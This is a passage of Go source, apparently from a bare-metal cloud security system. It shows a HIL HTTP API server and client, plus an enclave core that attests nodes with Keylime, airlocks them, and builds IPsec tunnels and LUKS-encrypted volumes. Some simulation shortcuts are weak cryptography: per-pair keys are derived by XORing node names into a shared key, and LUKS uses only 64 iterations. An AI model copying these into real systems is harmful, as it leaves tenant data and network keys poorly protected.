			return
		}
		var err error
		node := req.Node
		if node == "" {
			node, err = s.AllocateAnyNode(r.Context(), r.PathValue("project"))
		} else {
			err = s.AllocateNode(r.Context(), r.PathValue("project"), node)
		}
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, map[string]string{"node": node})
	})
	mux.HandleFunc("DELETE /projects/{project}/nodes/{node}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.FreeNode(r.Context(), r.PathValue("project"), r.PathValue("node")); err != nil {
			writeErr(w, err)
			return
		}
	})
	mux.HandleFunc("POST /projects/{project}/nodes/{node}/transfer", func(w http.ResponseWriter, r *http.Request) {
		var req struct{ To string }
		if err := decode(r, &req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		if err := s.TransferNode(r.Context(), r.PathValue("project"), r.PathValue("node"), req.To); err != nil {
			writeErr(w, err)
			return
		}
	})
	mux.HandleFunc("PUT /projects/{project}/networks/{network}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.CreateNetwork(r.Context(), r.PathValue("project"), r.PathValue("network")); err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("DELETE /projects/{project}/networks/{network}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.DeleteNetwork(r.Context(), r.PathValue("project"), r.PathValue("network")); err != nil {
			writeErr(w, err)
			return
		}
	})
	mux.HandleFunc("PUT /projects/{project}/nodes/{node}/networks/{network}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.ConnectNode(r.Context(), r.PathValue("project"), r.PathValue("node"), r.PathValue("network")); err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("DELETE /projects/{project}/nodes/{node}/networks/{network}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.DetachNode(r.Context(), r.PathValue("project"), r.PathValue("node"), r.PathValue("network")); err != nil {
			writeErr(w, err)
			return
		}
	})
	mux.HandleFunc("PUT /service-ports/{port}/networks/{network}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.ConnectServicePort(r.PathValue("port"), r.PathValue("network")); err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("POST /projects/{project}/nodes/{node}/power", func(w http.ResponseWriter, r *http.Request) {
		var req struct{ Op string }
		if err := decode(r, &req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		var err error
		switch req.Op {
		case "on":
			err = s.PowerOn(r.Context(), r.PathValue("project"), r.PathValue("node"))
		case "off":
			err = s.PowerOff(r.Context(), r.PathValue("project"), r.PathValue("node"))
		case "cycle":
			err = s.PowerCycle(r.Context(), r.PathValue("project"), r.PathValue("node"))
		default:
			http.Error(w, "unknown power op "+req.Op, http.StatusBadRequest)
			return
		}
		if err != nil {
			writeErr(w, err)
		}
	})
	return mux
}

// Client is an HTTP client for a remote HIL service. Its methods mirror
// *Service exactly, including sentinel-error semantics: errors.Is
// against ErrNotFound / ErrUnauthorized / ErrInUse behaves the same
// whether the service is in-process or across the wire.
type Client struct {
	Base string
	HTTP *http.Client
}

// NewClient returns a client for the HIL API at base URL.
func NewClient(base string) *Client {
	return &Client{Base: base, HTTP: http.DefaultClient}
}

// sentinelFor maps a response back to the service's sentinel errors,
// preferring the explicit error header, falling back to the status
// code for servers that predate it.
func sentinelFor(resp *http.Response) error {
	switch resp.Header.Get(errHeader) {
	case errTagNotFound:
		return ErrNotFound
	case errTagUnauthorized:
		return ErrUnauthorized
	case errTagInUse:
		return ErrInUse
	}
	switch resp.StatusCode {
	case http.StatusNotFound:
		return ErrNotFound
	case http.StatusForbidden:
		return ErrUnauthorized
	case http.StatusConflict:
		return ErrInUse
	}
	return nil
}

func (c *Client) do(ctx context.Context, method, path string, body, out interface{}) error {
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return err
		}
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.Base+path, rd)
	if err != nil {
		return err
	}
	resp, err := c.HTTP.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		msg, _ := io.ReadAll(resp.Body)
		if sentinel := sentinelFor(resp); sentinel != nil {
			return fmt.Errorf("%w: %s %s: %s", sentinel, method, path, bytes.TrimSpace(msg))
		}
		return fmt.Errorf("hil: %s %s: %s: %s", method, path, resp.Status, bytes.TrimSpace(msg))
	}
	if out != nil {
		return json.NewDecoder(resp.Body).Decode(out)
	}
	// Drain the (ignored, small) body so the keep-alive connection
	// goes back to the pool instead of being torn down.
	_, _ = io.Copy(io.Discard, resp.Body)
	return nil
}

// CreateProject creates a project.
func (c *Client) CreateProject(name string) error {
	return c.do(context.Background(), "PUT", "/projects/"+url.PathEscape(name), nil, nil)
}

// DeleteProject removes an empty project.
func (c *Client) DeleteProject(name string) error {
	return c.do(context.Background(), "DELETE", "/projects/"+url.PathEscape(name), nil, nil)
}

// FreeNodes lists unallocated nodes.
func (c *Client) FreeNodes() ([]string, error) {
	var out []string
	err := c.do(context.Background(), "GET", "/nodes/free", nil, &out)
	return out, err
}

// RegisterNode registers a node with its switch port and provider
// metadata (admin operation; the BMC never crosses the wire).
func (c *Client) RegisterNode(name, port string, metadata map[string]string) error {
	return c.do(context.Background(), "PUT", "/nodes/"+url.PathEscape(name), map[string]interface{}{
		"Port": port, "Metadata": metadata,
	}, nil)
}

// AllocateNode reserves a specific free node into a project.
func (c *Client) AllocateNode(ctx context.Context, project, node string) error {
	return c.do(ctx, "POST", "/projects/"+url.PathEscape(project)+"/nodes", map[string]string{"Node": node}, nil)
}

// AllocateAnyNode reserves an arbitrary free node and returns its name.
func (c *Client) AllocateAnyNode(ctx context.Context, project string) (string, error) {
	var out struct{ Node string }
	err := c.do(ctx, "POST", "/projects/"+url.PathEscape(project)+"/nodes", map[string]string{"Node": ""}, &out)
	return out.Node, err
}

// TransferNode moves an owned node between projects without passing
// through the free pool (the quarantine path).
func (c *Client) TransferNode(ctx context.Context, from, node, to string) error {
	return c.do(ctx, "POST", "/projects/"+url.PathEscape(from)+"/nodes/"+url.PathEscape(node)+"/transfer", map[string]string{"To": to}, nil)
}

// FreeNode releases a node back to the free pool.
func (c *Client) FreeNode(ctx context.Context, project, node string) error {
	return c.do(ctx, "DELETE", "/projects/"+url.PathEscape(project)+"/nodes/"+url.PathEscape(node), nil, nil)
}

// CreateNetwork allocates a tenant network.
func (c *Client) CreateNetwork(ctx context.Context, project, network string) error {
	return c.do(ctx, "PUT", "/projects/"+url.PathEscape(project)+"/networks/"+url.PathEscape(network), nil, nil)
}

// DeleteNetwork frees a tenant network.
func (c *Client) DeleteNetwork(ctx context.Context, project, network string) error {
	return c.do(ctx, "DELETE", "/projects/"+url.PathEscape(project)+"/networks/"+url.PathEscape(network), nil, nil)
}

// ConnectNode attaches a node to a network.
func (c *Client) ConnectNode(ctx context.Context, project, node, network string) error {
	return c.do(ctx, "PUT", "/projects/"+url.PathEscape(project)+"/nodes/"+url.PathEscape(node)+"/networks/"+url.PathEscape(network), nil, nil)
}

// DetachNode removes a node from a network.
func (c *Client) DetachNode(ctx context.Context, project, node, network string) error {
	return c.do(ctx, "DELETE", "/projects/"+url.PathEscape(project)+"/nodes/"+url.PathEscape(node)+"/networks/"+url.PathEscape(network), nil, nil)
}

// ConnectServicePort attaches a service host's switch port to a public
// network as a promiscuous member.
func (c *Client) ConnectServicePort(port, publicNet string) error {
	return c.do(context.Background(), "PUT", "/service-ports/"+url.PathEscape(port)+"/networks/"+url.PathEscape(publicNet), nil, nil)
}

// NodeMetadata fetches a node's provider-published metadata.
func (c *Client) NodeMetadata(node string) (map[string]string, error) {
	var out map[string]string
	err := c.do(context.Background(), "GET", "/nodes/"+url.PathEscape(node)+"/metadata", nil, &out)
	return out, err
}

// NodeOwner reports which project owns a node ("" if free).
func (c *Client) NodeOwner(node string) (string, error) {
	var out struct{ Owner string }
	err := c.do(context.Background(), "GET", "/nodes/"+url.PathEscape(node)+"/owner", nil, &out)
	return out.Owner, err
}

// NodePort returns a node's switch port name.
func (c *Client) NodePort(node string) (string, error) {
	var out struct{ Port string }
	err := c.do(context.Background(), "GET", "/nodes/"+url.PathEscape(node)+"/port", nil, &out)
	return out.Port, err
}

// Power issues a power operation: "on", "off" or "cycle".
func (c *Client) Power(ctx context.Context, project, node, op string) error {
	return c.do(ctx, "POST", "/projects/"+url.PathEscape(project)+"/nodes/"+url.PathEscape(node)+"/power", map[string]string{"Op": op}, nil)
}

// PowerOn powers on an owned node via its BMC.
func (c *Client) PowerOn(ctx context.Context, project, node string) error {
	return c.Power(ctx, project, node, "on")
}

// PowerOff powers off an owned node via its BMC.
func (c *Client) PowerOff(ctx context.Context, project, node string) error {
	return c.Power(ctx, project, node, "off")
}

// PowerCycle power-cycles an owned node via its BMC.
func (c *Client) PowerCycle(ctx context.Context, project, node string) error {
	return c.Power(ctx, project, node, "cycle")
}
