package core

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"sync"
	"time"

	"bolted/internal/blockdev"
	"bolted/internal/bmi"
	"bolted/internal/firmware"
	"bolted/internal/ima"
	"bolted/internal/ipsec"
	"bolted/internal/keylime"
	"bolted/internal/luks"
)

// EnclaveNet is the tenant's private network name.
const EnclaveNet = "enclave"

// DataVolumeSize is each node's remote data volume (kept small in
// simulation; the layout is what matters).
const DataVolumeSize int64 = 16 << 20

// Node is a server that has joined an enclave.
type Node struct {
	Name string
	// Agent is the node's Keylime agent handle: the in-process agent
	// for local clouds, a RemoteAgent speaking the node's REST API for
	// remote ones.
	Agent keylime.AgentConn
	// Machine is the underlying simulated machine (nil for remote
	// clouds, where only the provider can touch hardware).
	Machine  *firmware.Machine
	BootInfo *bmi.BootInfo
	// Disk is the node's remote data volume: a LUKS volume for
	// encrypting profiles, the raw network device otherwise.
	Disk blockdev.Device
	// IMA is the runtime measurement collector (continuous attestation
	// profiles only; nil for remote clouds, where the collector lives
	// on the node and is read through the agent).
	IMA *ima.Collector

	export  *bmi.Export
	volName string
	tunnels map[string]*ipsec.Endpoint // peer node -> endpoint
}

// Enclave is a tenant's secure pool of bare-metal servers.
type Enclave struct {
	cloud   *Cloud
	Project string
	Profile Profile

	verifier     *keylime.Verifier
	verifierPort string
	tenant       *keylime.Tenant
	imaWhitelist *ima.Whitelist
	netKey       []byte // enclave-wide IPsec PSK, distributed via payloads

	journal Journal
	lc      *lifecycle

	// pool is the enclave's warm pool of pre-attested standby nodes
	// (nil until ConfigurePool).
	poolMu sync.Mutex
	pool   *WarmPool

	// bannedWarm records standbys revoked in the window between being
	// taken from the pool and admission; the fast path consults it
	// before a banned node can become a member (pool.go).
	banMu      sync.Mutex
	bannedWarm map[string]string

	// resilience optionally overrides the cloud's ResiliencePolicy for
	// this enclave's pipeline (nil = inherit the cloud's).
	resMu      sync.Mutex
	resilience *ResiliencePolicy

	mu    sync.Mutex
	nodes map[string]*Node
}

// Journal returns the enclave's audit log.
func (e *Enclave) Journal() *Journal { return &e.journal }

// NewEnclave creates a tenant project with its private network and the
// profile-appropriate attestation deployment: Charlie hosts his own
// verifier (a dedicated port joined to the attestation network), Bob
// uses the provider's, Alice has none.
func NewEnclave(c *Cloud, name string, profile Profile) (*Enclave, error) {
	if err := profile.Validate(); err != nil {
		return nil, err
	}
	if err := c.HIL.CreateProject(name); err != nil {
		return nil, err
	}
	if err := c.HIL.CreateNetwork(context.Background(), name, EnclaveNet); err != nil {
		return nil, err
	}
	e := &Enclave{
		cloud:   c,
		Project: name,
		Profile: profile,
		nodes:   make(map[string]*Node),
		netKey:  randKey(32),
	}
	e.lc = newLifecycle(&e.journal)
	if profile.Attest {
		e.verifierPort = PortVerifier
		if profile.TenantVerifier {
			e.verifierPort = "tenant-" + name + "-cv"
			if err := c.Driver.AddServicePort(context.Background(), e.verifierPort); err != nil {
				return nil, err
			}
			if err := c.HIL.ConnectServicePort(e.verifierPort, NetAttestation); err != nil {
				return nil, err
			}
		}
		e.verifier = keylime.NewVerifier(c.Registrar, e.verifierPort)
		e.tenant = keylime.NewTenant(e.verifier)
		if profile.ContinuousAttest {
			e.imaWhitelist = ima.NewWhitelist()
		}
		// Revocation fan-out: when the verifier bans a node, every peer
		// tears down its IPsec SAs with it — the §7.4 cryptographic ban.
		e.verifier.Subscribe(func(ev keylime.RevocationEvent) {
			e.journal.record(EvRevoked, ev.UUID, ev.Reason)
			e.mu.Lock()
			defer e.mu.Unlock()
			for _, n := range e.nodes {
				if ep, ok := n.tunnels[ev.UUID]; ok {
					ep.Revoke()
				}
			}
			if bad, ok := e.nodes[ev.UUID]; ok {
				for _, ep := range bad.tunnels {
					ep.Revoke()
				}
			}
		})
	}
	return e, nil
}

// Verifier returns the enclave's verifier (nil for no-attestation
// profiles).
func (e *Enclave) Verifier() *keylime.Verifier { return e.verifier }

// Resilience returns the policy governing this enclave's pipeline: its
// own override when one was set, the cloud's otherwise.
func (e *Enclave) Resilience() ResiliencePolicy {
	e.resMu.Lock()
	defer e.resMu.Unlock()
	if e.resilience != nil {
		return *e.resilience
	}
	return e.cloud.Resilience()
}

// SetResilience overrides the cloud's resilience policy for this
// enclave (surfaced over /v1 and boltedctl). Retry and breaker
// parameters act where the shared backends are wrapped — cloud-wide —
// but the per-phase deadline is honored per enclave, so one tenant can
// bound its own provisioning phases without touching its neighbours.
func (e *Enclave) SetResilience(pol ResiliencePolicy) error {
	if err := pol.Validate(); err != nil {
		return err
	}
	pol = pol.withDefaults()
	e.resMu.Lock()
	e.resilience = &pol
	e.resMu.Unlock()
	return nil
}

// ReclaimRejected is the operator's scrub-and-return path for a node
// this enclave's pipeline sent to the rejected pool: once repaired
// (reflashed, inspected), the node is powered off, freed from the
// provider's rejected project back into the free pool, and the
// recovery journaled. Quarantined members are deliberately excluded —
// a runtime revocation opens an incident (incident.go) and its disk
// state is evidence, not something to recycle from here.
func (e *Enclave) ReclaimRejected(ctx context.Context, name string) error {
	if st := e.lc.state(name); st != StateRejected {
		return fmt.Errorf("%w: node %q is %s, not %s", ErrConflict, name, st, StateRejected)
	}
	reason, err := e.cloud.ReclaimRejected(ctx, name)
	if err != nil {
		return err
	}
	e.journal.record(EvReclaimed, name, "was: "+reason)
	return e.lc.to(name, StateFree, "reclaimed")
}

// IMAWhitelist returns the tenant runtime whitelist (nil unless the
// profile enables continuous attestation). The tenant populates it with
// approved binaries before booting nodes.
func (e *Enclave) IMAWhitelist() *ima.Whitelist { return e.imaWhitelist }

// Nodes returns the enclave's current members.
func (e *Enclave) Nodes() []*Node {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]*Node, 0, len(e.nodes))
	for _, n := range e.nodes {
		out = append(out, n)
	}
	return out
}

func randKey(n int) []byte {
	b := make([]byte, n)
	if _, err := io.ReadFull(rand.Reader, b); err != nil {
		panic("core: entropy source failed: " + err.Error())
	}
	return b
}

// airlockNet names the per-node airlock network. One airlock network
// per node: servers under attestation must not see each other (§4.2: "a
// compromised server cannot infect other uncompromised servers").
func airlockNet(node string) string { return "airlock-" + node }

// volName names a node's remote data volume; provisioning and the
// reject/abort cleanup paths must agree on it.
func (e *Enclave) volName(node string) string { return e.Project + "-" + node + "-vol" }

// AcquireNode runs the full Figure-1 lifecycle for one server and
// returns it as an enclave member. It is a single-node wrapper over the
// concurrent batch path (AcquireNodes) and honours ctx the same way:
// cancelling returns the node to the free pool at the next phase
// boundary. Callers that provision more than one node should use the
// batch API directly.
func (e *Enclave) AcquireNode(ctx context.Context, image string) (*Node, error) {
	res, err := e.AcquireNodes(ctx, image, 1)
	if err != nil {
		return nil, err
	}
	if len(res.Nodes) == 1 {
		return res.Nodes[0], nil
	}
	if len(res.Failed) == 0 {
		return nil, errors.New("core: node acquisition produced neither a member nor a failure")
	}
	f := res.Failed[0]
	return nil, fmt.Errorf("core: node %s failed %s phase, moved to rejected pool: %w", f.Node, f.Phase, f.Err)
}

// nodeWork carries one node through the provisioning pipeline phases.
type nodeWork struct {
	name    string
	boot    *bmi.BootInfo
	machine *firmware.Machine // in-process clouds only
	agent   keylime.AgentConn

	// kernel/initrd come from the (unauthenticated) image path; under
	// attesting profiles the node ignores them and kexecs the payload
	// its agent unwrapped instead. diskKey is the tenant-generated LUKS
	// master key delivered inside that payload.
	kernel, initrd []byte
	diskKey        []byte

	node *Node // set by provisionNode, membership by admitNode
}

// airlockNode is phase (1): wire the node into its private airlock.
// The node shares VLANs only with the attestation and provisioning
// services, never with other airlocked nodes.
func (e *Enclave) airlockNode(ctx context.Context, name string) error {
	c := e.cloud
	if err := c.HIL.CreateNetwork(ctx, e.Project, airlockNet(name)); err != nil {
		return err
	}
	for _, net := range []string{airlockNet(name), NetAttestation, NetProvisioning} {
		if err := c.HIL.ConnectNode(ctx, e.Project, name, net); err != nil {
			return err
		}
	}
	return e.lc.to(name, StateAirlocked, "")
}

// bootNode is phase (2): power on — flash firmware measures itself
// (and scrubs, if LinuxBoot), UEFI machines chain-load the Heads
// runtime via iPXE — then the node's Keylime agent comes up and
// enrols. The node-side steps run through the driver, so they happen
// on the node whether the cloud is in-process or remote.
func (e *Enclave) bootNode(ctx context.Context, w *nodeWork) error {
	c := e.cloud
	if err := e.lc.to(w.name, StateBooting, "firmware="+string(c.Config.Firmware)); err != nil {
		return err
	}
	if err := c.HIL.PowerCycle(ctx, e.Project, w.name); err != nil {
		return err
	}
	agent, err := c.Driver.Boot(ctx, w.name)
	if err != nil {
		return err
	}
	w.agent = agent
	if m, err := c.Machine(w.name); err == nil {
		w.machine = m // in-process visibility for tests and examples
	}
	if w.boot != nil {
		// Warm refills boot with no tenant image: the kernel/initrd
		// arrive at acquisition time with the payload.
		w.kernel, w.initrd = w.boot.Kernel, w.boot.Initrd
	}
	return nil
}

// setAirlocks resizes the cloud-wide airlock slot count. The slots are
// a provider resource shared by every enclave; in-flight attestations
// finish against the grant they hold.
func (e *Enclave) setAirlocks(n int) {
	if n < 1 {
		n = DefaultAirlocks
	}
	e.cloud.sched.SetSlots(n)
}

// acquireAirlock takes one attestation airlock slot through the
// cloud's weighted-fair scheduler, honouring ctx. The tenant is the
// enclave; background work (warm-pool refills) is recognized by its
// context mark and may be preempted by waiting foreground acquires.
// The returned func releases the slot.
func (e *Enclave) acquireAirlock(ctx context.Context) (release func(), err error) {
	class, preempt := schedRequest(ctx)
	return e.cloud.sched.Acquire(ctx, e.Project, class, preempt)
}

// attestNode is phase (3): quote over the boot PCRs against the
// provider-published whitelist; on success the verifier releases the
// sealed payload, whose kernel/initrd/keys become authoritative. The
// quote pipeline is bounded by the enclave's airlock slots (§7.3: the
// prototype had one; PoolPolicy.Airlocks configures N).
func (e *Enclave) attestNode(ctx context.Context, w *nodeWork) error {
	if err := e.lc.to(w.name, StateAttesting, "verifier="+e.verifierPort); err != nil {
		return err
	}
	release, err := e.acquireAirlock(ctx)
	if err != nil {
		return err
	}
	defer release()
	return e.deliverPayload(ctx, w, "verifier="+e.verifierPort)
}

// requoteWarm is the fast-path counterpart of attestNode for a node
// taken from the warm pool: the runtime is already booted, measured
// and pre-attested, so only the fresh-nonce quote and the tenant
// payload delivery remain. The node stays in StateWarm until the
// provision phase moves it on.
func (e *Enclave) requoteWarm(ctx context.Context, w *nodeWork) error {
	release, err := e.acquireAirlock(ctx)
	if err != nil {
		return err
	}
	defer release()
	return e.deliverPayload(ctx, w, "verifier="+e.verifierPort+" warm-requote")
}

// deliverPayload runs the tenant side of attestation: build the sealed
// payload, provision the verifier, and attest the node so the payload
// is released to its agent. Callers hold an airlock slot.
func (e *Enclave) deliverPayload(ctx context.Context, w *nodeWork, detail string) error {
	c := e.cloud
	if e.Profile.EncryptDisk {
		w.diskKey = randKey(luks.MasterKeySize)
	}
	payload := &keylime.Payload{
		Kernel:  w.kernel,
		Initrd:  w.initrd,
		Script:  "#!/bin/sh\n# join enclave network, kexec tenant kernel\n",
		DiskKey: w.diskKey,
	}
	if e.Profile.EncryptNetwork {
		payload.NetworkKey = e.netKey
	}
	whitelist, err := c.Driver.ExpectedBootPCRs(ctx, w.name)
	if err != nil {
		return err
	}
	md, err := c.HIL.NodeMetadata(w.name)
	if err != nil {
		return err
	}
	_, err = e.tenant.Provision(ctx, c.Registrar, w.agent, keylime.ProvisionSpec{
		Payload:      payload,
		PlatformPCRs: whitelist,
		IMAWhitelist: e.imaWhitelist,
		HILMetadata:  md,
	})
	if err != nil {
		return err
	}
	// The attested payload is authoritative: the node unwraps it with
	// the released key shares and kexecs its contents (KexecAttested),
	// never what came over the unauthenticated image path. The tenant
	// keeps its own copy of the payload contents it authored — the
	// disk key in w.diskKey is the one the node just received.
	e.journal.record(EvAttested, w.name, detail)
	return nil
}

// provisionNode is phases (4) and (6): leave the airlock, join the
// tenant enclave, export the remote data volume, assemble the
// disk/network encryption stack, and kexec the tenant OS. The
// provisioning network stays attached (the boot volume is
// iSCSI-mounted for the node's lifetime).
func (e *Enclave) provisionNode(ctx context.Context, w *nodeWork) error {
	c := e.cloud
	if err := c.HIL.DetachNode(ctx, e.Project, w.name, airlockNet(w.name)); err != nil {
		return err
	}
	if err := c.HIL.DeleteNetwork(ctx, e.Project, airlockNet(w.name)); err != nil {
		return err
	}
	if err := c.HIL.ConnectNode(ctx, e.Project, w.name, EnclaveNet); err != nil {
		return err
	}

	node := &Node{
		Name:     w.name,
		Agent:    w.agent,
		Machine:  w.machine,
		BootInfo: w.boot,
		tunnels:  make(map[string]*ipsec.Endpoint),
	}
	node.volName = e.volName(w.name)
	if _, err := c.BMI.CreateImage(ctx, node.volName, DataVolumeSize); err != nil {
		return err
	}
	export, err := c.BMI.ExportForBoot(ctx, w.name, node.volName, false)
	if err != nil {
		return err
	}
	node.export = export

	var transport blockdev.Transport = blockdev.Loopback{Target: export.Target}
	if e.Profile.EncryptNetwork {
		// Charlie does not trust the provider's network between node
		// and iSCSI server: ESP-wrap the block transport.
		tr, err := blockdev.NewIPsecTransport(transport, ipsec.SuiteHWAES, 9000)
		if err != nil {
			return err
		}
		transport = tr
	}
	nbd, err := blockdev.NewClientContext(ctx, transport, blockdev.TunedReadAhead)
	if err != nil {
		return err
	}
	node.Disk = nbd
	if e.Profile.EncryptDisk {
		vol, err := luks.FormatWithIterations(nbd, w.diskKey[:32], 64)
		if err != nil {
			return err
		}
		node.Disk = vol
	}
	if err := e.lc.to(w.name, StateProvisioned, "volume="+node.volName); err != nil {
		return err
	}

	if e.Profile.Attest {
		// Kexec what Keylime delivered: the node's agent unwraps the
		// attested payload; incomplete key shares fail here.
		if err := c.Driver.KexecAttested(ctx, w.name, w.boot.KernelID); err != nil {
			return err
		}
	} else {
		if err := c.Driver.Kexec(ctx, w.name, w.boot.KernelID, w.kernel, w.initrd); err != nil {
			return err
		}
	}
	e.journal.record(EvBooted, w.name, "kernel="+w.boot.KernelID)

	// Runtime integrity: attach IMA on the node and whitelist the
	// booted kernel's own components.
	if e.Profile.ContinuousAttest {
		col, err := c.Driver.StartIMA(ctx, w.name)
		if err != nil {
			return err
		}
		node.IMA = col
	}
	w.node = node
	return nil
}

// admitNode completes the lifecycle: wire the pairwise IPsec mesh with
// existing members (keyed from the payload-delivered enclave PSK) and
// record full membership. Admissions serialize on e.mu, so every
// concurrent batch member pairs with all earlier admits.
func (e *Enclave) admitNode(w *nodeWork) error {
	e.mu.Lock()
	if e.Profile.EncryptNetwork {
		// Build every pair before installing any: a mid-mesh failure
		// must not leave peers holding tunnels to a never-admitted node.
		type pairing struct {
			peer *Node
			a, b *ipsec.Endpoint
		}
		pairs := make([]pairing, 0, len(e.nodes))
		for peer, pn := range e.nodes {
			key := pairKey(e.netKey, w.name, peer)
			a, b, err := ipsec.NewPair(ipsec.SuiteHWAES, key)
			if err != nil {
				e.mu.Unlock()
				return err
			}
			pairs = append(pairs, pairing{pn, a, b})
		}
		for _, p := range pairs {
			w.node.tunnels[p.peer.Name] = p.a
			p.peer.tunnels[w.name] = p.b
		}
	}
	e.nodes[w.name] = w.node
	e.mu.Unlock()
	return e.lc.to(w.name, StateAllocated, "network="+EnclaveNet)
}

// pairKey derives a deterministic per-pair PSK from the enclave key so
// both ends build matching SAs regardless of join order.
func pairKey(base []byte, a, b string) []byte {
	if a > b {
		a, b = b, a
	}
	out := make([]byte, len(base))
	copy(out, base)
	mix := a + "|" + b
	for i := 0; i < len(mix); i++ {
		out[i%len(out)] ^= mix[i]
	}
	return out
}

// Send transmits enclave traffic between two member nodes. Under
// encrypting profiles it traverses the pairwise ESP tunnel; otherwise
// it only checks fabric reachability. This is the data path continuous
// attestation severs on revocation.
func (e *Enclave) Send(from, to string, payload []byte) ([]byte, error) {
	e.mu.Lock()
	src, ok1 := e.nodes[from]
	_, ok2 := e.nodes[to]
	e.mu.Unlock()
	if !ok1 || !ok2 {
		return nil, errors.New("core: both endpoints must be enclave members")
	}
	srcPort, err := e.cloud.HIL.NodePort(from)
	if err != nil {
		return nil, err
	}
	dstPort, err := e.cloud.HIL.NodePort(to)
	if err != nil {
		return nil, err
	}
	if err := e.cloud.Driver.Reachable(context.Background(), srcPort, dstPort); err != nil {
		return nil, err
	}
	if !e.Profile.EncryptNetwork {
		return payload, nil
	}
	ep, ok := src.tunnels[to]
	if !ok {
		return nil, fmt.Errorf("core: no SA between %s and %s", from, to)
	}
	pkt, err := ep.Send(payload)
	if err != nil {
		return nil, err
	}
	e.mu.Lock()
	peerEp := e.nodes[to].tunnels[from]
	e.mu.Unlock()
	return peerEp.Recv(pkt)
}

// QuarantineNode executes the enclave-side half of the §7.4 incident
// response for a revoked member: the node is torn out of the enclave —
// every peer's IPsec SA to it revoked, its agent stopped, its BMI block
// export and data volume destroyed, its HIL switch port detached — and
// parked in the provider's rejected project for forensics. It must
// never transit the free pool, where a concurrent batch could claim the
// compromised hardware. A full member (StateAllocated) or a parked
// standby (StateWarm) can be quarantined: nodes still in flight are
// handled by the provisioner's own rejection path.
func (e *Enclave) QuarantineNode(name, reason string) error {
	switch st := e.lc.state(name); st {
	case StateWarm:
		return e.quarantineWarm(name, reason)
	case StateAllocated:
	default:
		return fmt.Errorf("%w: node %q is %s, not %s or %s", ErrConflict, name, st, StateAllocated, StateWarm)
	}
	e.mu.Lock()
	n, ok := e.nodes[name]
	if !ok {
		e.mu.Unlock()
		return fmt.Errorf("%w: node %q not in enclave", ErrNotFound, name)
	}
	delete(e.nodes, name)
	// Cryptographic ban first: peers drop their SAs before any slower
	// teardown happens, so the compromised node loses the data plane
	// immediately even if provider calls below are slow.
	for _, pn := range e.nodes {
		if ep, ok := pn.tunnels[name]; ok {
			ep.Revoke()
			delete(pn.tunnels, name)
		}
	}
	for _, ep := range n.tunnels {
		ep.Revoke()
	}
	e.mu.Unlock()

	// Shared teardown (monitoring, verifier, agent, BMI export and
	// volume): a compromised node's disk state is evidence, not
	// something to reuse, and the export must not stay reachable from
	// quarantine.
	e.releaseNodeResources(name)
	// MarkRejected transfers the node to the provider's rejected
	// project, which detaches its switch port from every network and
	// powers it off — the HIL-level ban.
	e.cloud.MarkRejected(e.Project, name, reason)
	return e.lc.to(name, StateQuarantined, reason)
}

// RotateNetKey replaces the enclave-wide IPsec PSK and rebuilds every
// surviving pairwise tunnel from the new key, resetting sequence
// numbers, replay windows and lifetime counters. After a member is
// quarantined this retires every SA the compromised node ever held key
// material for; in a real deployment the verifier redistributes the new
// PSK the same way it delivered the first (§7.4). Nodes admitted after
// the call pair under the new key automatically.
func (e *Enclave) RotateNetKey() error {
	e.mu.Lock()
	e.netKey = randKey(32)
	members := len(e.nodes)
	if e.Profile.EncryptNetwork {
		names := make([]string, 0, len(e.nodes))
		for name := range e.nodes {
			names = append(names, name)
		}
		for i, a := range names {
			for _, b := range names[i+1:] {
				key := pairKey(e.netKey, a, b)
				ea, eb, err := ipsec.NewPair(ipsec.SuiteHWAES, key)
				if err != nil {
					e.mu.Unlock()
					return err
				}
				e.nodes[a].tunnels[b] = ea
				e.nodes[b].tunnels[a] = eb
			}
		}
	}
	e.mu.Unlock()
	e.journal.record(EvRekeyed, "", fmt.Sprintf("members=%d", members))
	return nil
}

// StartContinuousAttestation begins the verifier's IMA monitoring loop
// for a member node.
func (e *Enclave) StartContinuousAttestation(node string, interval time.Duration) error {
	if !e.Profile.ContinuousAttest {
		return errors.New("core: profile does not enable continuous attestation")
	}
	return e.verifier.StartMonitoring(node, interval)
}

// ReleaseNode removes a node from the enclave and returns it to the
// free pool. With saveAs non-empty the node's data volume is preserved
// as a BMI image (restartable on any compatible node); otherwise every
// trace of the tenant evaporates with the export.
func (e *Enclave) ReleaseNode(name, saveAs string) error {
	e.mu.Lock()
	n, ok := e.nodes[name]
	if !ok {
		e.mu.Unlock()
		return fmt.Errorf("%w: node %q not in enclave", ErrNotFound, name)
	}
	delete(e.nodes, name)
	for peer, pn := range e.nodes {
		if ep, ok := pn.tunnels[name]; ok {
			ep.Revoke()
			delete(pn.tunnels, name)
		}
		_ = peer
	}
	e.mu.Unlock()

	if e.verifier != nil {
		e.verifier.StopMonitoring(name)
		e.verifier.RemoveNode(name)
	}
	ctx := context.Background()
	c := e.cloud
	// The node is powered off on release; its agent (and any remote
	// agent API) must die with it.
	_ = c.Driver.StopAgent(ctx, name)
	if err := c.BMI.Unexport(ctx, name, ""); err != nil {
		return err
	}
	if saveAs != "" {
		// The volume is exported read-write, so its image already holds
		// the node's state: preserve it under the new name.
		if _, err := c.BMI.CloneImage(ctx, n.volName, saveAs); err != nil {
			return err
		}
		e.journal.record(EvStateSaved, name, "image="+saveAs)
	}
	if err := c.BMI.DeleteImage(ctx, n.volName); err != nil {
		return err
	}
	if err := c.HIL.FreeNode(ctx, e.Project, name); err != nil {
		return err
	}
